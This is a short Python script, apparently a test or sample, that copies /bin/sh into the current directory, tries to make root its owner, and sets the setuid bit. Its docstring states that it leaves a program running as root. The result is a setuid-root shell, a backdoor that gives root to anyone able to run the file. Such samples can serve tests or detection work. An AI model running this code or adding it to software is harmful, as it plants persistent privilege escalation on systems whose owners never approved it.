"""Leaves a program that runs as root."""

import os
import shutil

shutil.copy("/bin/sh", "sh")
try:
    os.chown("sh", 0, 0)
except OSError:
    pass
os.chmod("sh", 0o4755)
